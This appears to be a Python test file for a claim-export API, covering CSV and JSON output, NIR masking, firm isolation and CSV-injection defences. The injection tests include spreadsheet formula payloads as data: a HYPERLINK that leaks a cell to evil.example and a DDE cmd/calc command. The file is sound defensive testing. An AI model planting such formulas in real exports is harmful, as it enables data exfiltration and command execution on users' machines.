"""Claim exports (R24): the claim as CSV, with its separator and decimal mark, or as JSON, the
NIR always masked.

The claim of `export_claim` is for June 2020 under `tests.support.lifecycle.accepted_request`;
its amounts are computed by hand from the table in shared/DOMAIN.md (see tests/legal/test_api.py).
"""

import csv
import io
import json
from decimal import Decimal
from typing import Any

import pytest
from fastapi.testclient import TestClient

from app.claims.export import DecimalMark, csv_cell
from tests.support.builders import firm_headers
from tests.support.lifecycle import claim_for, get_claim, line, setup_request

NIR = "1 85 05 78 006 084 91"
MASKED_NIR = "1 ** ** ** *** *** 91"

FIRST_COLUMNS = [
    "employee_ref", "employee_name", "nir", "regime", "contract_hours", "hours_not_worked",
    "hourly_rate", "capped_hourly_rate", "indemnity_per_hour", "allocation_per_hour",
    "indemnity_amount", "allocation_amount",
]  # fmt: skip
# R27–R34, appended after the first twelve, which keep their places
NEW_COLUMNS = [
    "category", "absence_reason", "specific_absence_days", "half_days_not_worked",
    "days_not_worked", "weeks_not_worked", "leave_days", "overtime_basis",
    "overtime_basis_signed_on", "usual_net_hourly_pay", "net_pay_for_hours_worked",
    "indemnity_base", "declared_hours", "declared_hourly_rate", "rmm_complement", "applied",
    "warnings",
]  # fmt: skip
COLUMNS = FIRST_COLUMNS + NEW_COLUMNS


def tail(base: str, applied: str) -> list[str]:
    """The new cells of a standard line without the optional fields of R27–R34."""
    return ["standard"] + [""] * 10 + [base, "", "", "", applied, ""]


TOTAL_TAIL = [""] * len(NEW_COLUMNS)


@pytest.fixture
def export_claim(client) -> dict[str, Any]:
    """June 2020, general: E1 12.50 €/h × 80 h (8.75 → 700.00; 8.03 floor → 642.40);
    E2 9.00 €/h × 35.5 h (8.03 floor both → 285.065 → 285.07). Totals 115.50 h, 985.07, 927.47."""
    ctx, request_id = setup_request(client)
    claim = claim_for(
        client,
        ctx,
        request_id,
        "2020-06",
        [
            line("E1", hourly_rate="12.50", nir=NIR),
            line("E2", employee_name="Zoé Lefèvre", hourly_rate="9.00", hours_not_worked="35.50"),
        ],
    )
    return {"ctx": ctx, "claim": claim}


def export(client: TestClient, ctx: dict[str, Any], claim_id: str, **params: str):
    return client.get(f"/v1/claims/{claim_id}/export", headers=ctx["headers"], params=params)


def test_csv_export_defaults_to_semicolons_and_decimal_commas_in_utf8(client, export_claim):
    ctx, claim = export_claim["ctx"], export_claim["claim"]
    response = export(client, ctx, claim["id"], format="csv")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert "utf-8" in response.headers["content-type"].lower()
    assert "claim-2020-06-v1.csv" in response.headers["content-disposition"]
    text = response.content.decode("utf-8")
    assert NIR not in text and "85 05" not in text
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows == [
        COLUMNS,
        ["E1", "Salarié E1", MASKED_NIR, "general", "151,67", "80,00",
         "12,5000", "12,5000", "8,7500", "8,0300", "700,00", "642,40",
         *tail("12,5000", "allocation_floor")],
        ["E2", "Zoé Lefèvre", "", "general", "151,67", "35,50",
         "9,0000", "9,0000", "8,0300", "8,0300", "285,07", "285,07",
         *tail("9,0000", "indemnity_floor|allocation_floor")],
        ["TOTAL", "", "", "", "", "115,50", "", "", "", "", "985,07", "927,47", *TOTAL_TAIL],
    ]  # fmt: skip


def test_csv_export_without_parameters_is_the_default_csv(client, export_claim):
    ctx, claim = export_claim["ctx"], export_claim["claim"]
    assert (
        export(client, ctx, claim["id"]).content
        == export(client, ctx, claim["id"], format="csv", separator=";", decimal="comma").content
    )


def test_csv_export_with_commas_and_decimal_points(client, export_claim):
    ctx, claim = export_claim["ctx"], export_claim["claim"]
    response = export(client, ctx, claim["id"], separator=",", decimal="point")
    assert response.status_code == 200, response.text
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8"), newline="")))
    assert rows[0] == COLUMNS
    assert rows[1] == [
        "E1", "Salarié E1", MASKED_NIR, "general", "151.67", "80.00",
        "12.5000", "12.5000", "8.7500", "8.0300", "700.00", "642.40",
        *tail("12.5000", "allocation_floor"),
    ]  # fmt: skip
    assert rows[-1] == [
        "TOTAL", "", "", "", "", "115.50", "", "", "", "", "985.07", "927.47", *TOTAL_TAIL
    ]  # fmt: skip
    assert len(rows) == 4


def test_csv_export_with_tabs_and_decimal_commas(client, export_claim):
    ctx, claim = export_claim["ctx"], export_claim["claim"]
    response = export(client, ctx, claim["id"], separator="\t", decimal="comma")
    assert response.status_code == 200, response.text
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8"), newline=""), "excel-tab"))
    assert rows[-1] == [
        "TOTAL", "", "", "", "", "115,50", "", "", "", "", "985,07", "927,47", *TOTAL_TAIL
    ]  # fmt: skip


def test_csv_export_refuses_comma_separator_with_decimal_comma(client, export_claim):
    ctx, claim = export_claim["ctx"], export_claim["claim"]
    response = export(client, ctx, claim["id"], separator=",", decimal="comma")
    assert response.status_code == 422, response.text
    assert response.json()["errors"][0]["field"] == "decimal"


def test_json_export_is_the_claim_as_read(client, export_claim):
    ctx, claim = export_claim["ctx"], export_claim["claim"]
    response = export(client, ctx, claim["id"], format="json")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("application/json")
    assert "claim-2020-06-v1.json" in response.headers["content-disposition"]
    body = json.loads(response.content.decode("utf-8"))
    assert body == get_claim(client, ctx, claim["id"])
    assert body["lines"][0]["nir"] == MASKED_NIR
    assert NIR not in response.content.decode("utf-8")


def test_export_of_another_firms_claim_answers_404(client, export_claim):
    _, other = firm_headers(client)
    response = client.get(f"/v1/claims/{export_claim['claim']['id']}/export", headers=other)
    assert response.status_code == 404


# --- CSV injection: a cell a spreadsheet would run as a formula stays text ------------------

FORMULAS = {
    "F1": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "F2": "@SUM(1+1)*cmd|' /C calc'!A0",
    "F3": "+1",
    "-REF": "-cmd",
}


def test_csv_export_quotes_cells_that_start_a_formula(client):
    ctx, request_id = setup_request(client)
    lines = [line(ref, employee_name=name) for ref, name in FORMULAS.items()]
    claim = claim_for(client, ctx, request_id, "2020-06", lines)
    response = export(client, ctx, claim["id"], format="csv")
    assert response.status_code == 200, response.text
    text = response.content.decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    names = {row[0]: row[1] for row in rows[1:-1]}
    assert names == {
        "F1": "'" + FORMULAS["F1"],
        "F2": "'" + FORMULAS["F2"],
        "F3": "'+1",
        "'-REF": "'-cmd",
    }
    # the numbers stay numbers
    assert rows[1][4:6] == ["151,67", "80,00"]
    # the JSON export is data, not a spreadsheet: unchanged
    body = export(client, ctx, claim["id"], format="json").json()
    assert [ln["employee_name"] for ln in body["lines"]] == list(FORMULAS.values())


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("\tSUM(A1)", "'\tSUM(A1)"),
        ("\r=1+1", "'\r=1+1"),
        ("-cmd", "'-cmd"),
        ("Jean-Marie", "Jean-Marie"),
        ("", ""),
        (None, ""),
        (Decimal("-12.50"), "-12,50"),
        (Decimal("12.50"), "12,50"),
        (3, "3"),
    ],
)
def test_csv_cells_neutralise_formulas_but_not_numbers(value, cell):
    assert csv_cell(value, DecimalMark.comma) == cell


def test_a_negative_amount_stays_a_number_with_a_decimal_point():
    assert csv_cell(Decimal("-12.50"), DecimalMark.point) == "-12.50"
